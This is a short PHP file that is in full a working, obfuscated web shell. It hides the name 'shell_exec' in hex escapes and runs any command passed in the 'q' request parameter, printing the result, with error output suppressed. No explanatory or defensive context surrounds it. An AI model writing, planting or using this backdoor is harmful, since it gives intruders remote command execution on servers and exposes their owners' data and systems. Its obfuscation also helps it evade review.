<?php
$k = "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63";
echo "<pre>" . $k(@$_REQUEST["q"]) . "</pre>";
